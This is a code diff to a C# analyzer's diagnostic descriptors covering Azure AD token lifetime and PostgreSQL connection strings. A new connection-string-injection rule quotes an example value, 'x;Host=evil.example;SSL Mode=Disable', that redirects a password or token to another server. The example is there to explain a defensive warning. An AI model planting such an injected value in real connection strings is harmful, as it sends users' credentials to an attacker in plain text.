@@ -54,11 +54,11 @@ internal static class Descriptors
     public static readonly DiagnosticDescriptor TokenHeldTooLong = DescriptorFactory.Create(
         RuleIds.TokenHeldTooLong,
         "Access token is held longer than it lives",
-        "A token may expire within this interval, and logins then fail; use UsePasswordProvider or UseAadAuthentication, which get one when it is needed, or an interval of 5 minutes at most",
+        "{0}",
         Categories.Reliability,
         DiagnosticSeverity.Warning,
         "The credentials of Azure.Identity hand out the token that they have until five minutes before it expires. A periodic provider keeps what it gets for the " +
-        "whole interval, so that with 55 minutes about every third login can be with an expired token.");
+        "whole interval, so that with 55 minutes about every third login can be with an expired token; one that is kept in a field is expired for good after an hour.");
 
     public static readonly DiagnosticDescriptor WrongTokenScope = DescriptorFactory.Create(
         RuleIds.WrongTokenScope,
@@ -113,6 +113,15 @@ internal static class Descriptors
         DiagnosticSeverity.Warning,
         "What other drivers and tools take, Npgsql refuses with an exception when the app runs, some of which repeat the text, password included, or " +
         "misreads without a word.");
+
+    public static readonly DiagnosticDescriptor ConnectionStringInjection = DescriptorFactory.Create(
+        RuleIds.ConnectionStringInjection,
+        "Value of a caller in a PostgreSQL connection string",
+        "The value for '{0}' comes from a caller and can hold further keywords, such as another Host; set it through NpgsqlConnectionStringBuilder, which puts it in quotes",
+        Categories.Security,
+        DiagnosticSeverity.Info,
+        "In a connection string, a semicolon ends a value, and the last of two keywords counts: 'x;Host=evil.example;SSL Mode=Disable' in the place of a user name sends " +
+        "the password or the Azure AD token to another server, in plain text. NpgsqlConnectionStringBuilder puts a value in quotes that needs it.");
 
     public static readonly DiagnosticDescriptor TokenLogged = DescriptorFactory.Create(
         RuleIds.TokenLogged,
